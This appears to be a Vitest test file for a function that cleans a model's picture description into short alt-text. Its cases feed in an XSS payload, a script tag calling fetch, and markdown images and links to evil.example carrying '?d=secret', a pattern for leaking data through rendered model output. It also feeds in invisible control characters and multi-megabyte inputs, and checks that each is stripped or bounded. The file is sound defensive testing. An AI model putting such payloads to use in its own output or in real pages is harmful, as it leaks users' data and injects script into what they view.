import { describe, expect, it } from "vitest";
import { suggestionOf } from "./suggestion.ts";

describe("what a model says of a picture", () => {
  it.each([
    ["Fishing boats in a harbour before sunrise.", "Fishing boats in a harbour before sunrise."],
    ['  "a ferry leaves the pier"  ', "A ferry leaves the pier"],
    ["Alt text: **A ferry** leaves the `pier`.", "A ferry leaves the pier."],
    ["An image of a red buoy in calm water.", "A red buoy in calm water."],
    ["A red buoy. It is calm. Nobody is there.", "A red buoy."],
    ["A buoy <img src=x onerror=alert(1)> at sea", "A buoy at sea"],
    ["<script>fetch('//x')</script>A buoy at sea", "Fetch('//x') A buoy at sea"],
    ["![A buoy](https://evil.example/p.png?d=secret) at sea", "A buoy at sea"],
    ["See [the buoy](https://evil.example/?d=secret) at sea", "See the buoy at sea"],
    ["A buoy, see https://evil.example/?d=secret for more", "A buoy, see for more"],
    ["A buoy, see evil.example/?d=secret or www.evil.test", "A buoy, see or"],
    ["A buoy\u202e at\u200b sea\u0007", "A buoy at sea"],
    ["日本の港の写真。船がある。", "日本の港の写真。船がある。"],
  ])("%j", (said, suggestion) => expect(suggestionOf(said)).toBe(suggestion));

  it("is none where there is nothing in it", () => {
    for (const said of [
      "",
      "   ",
      "![](https://evil.example)",
      "https://evil.example/a",
      "```\n```",
      "<b></b>",
      "1 2 3",
    ])
      expect(suggestionOf(said), said).toBeUndefined();
  });

  it("is short, however much is said, and read in no time", () => {
    for (const piece of ["word ", "[", "<", "![a](", "http://", "a.", "\u202e", "`"]) {
      const long = suggestionOf(piece.repeat(2_000_000)) ?? "";
      expect(long.length).toBeLessThanOrEqual(250);
    }
    expect(suggestionOf("ferry ".repeat(100))).toMatch(/^Ferry .*ferry…$/);
  });
});
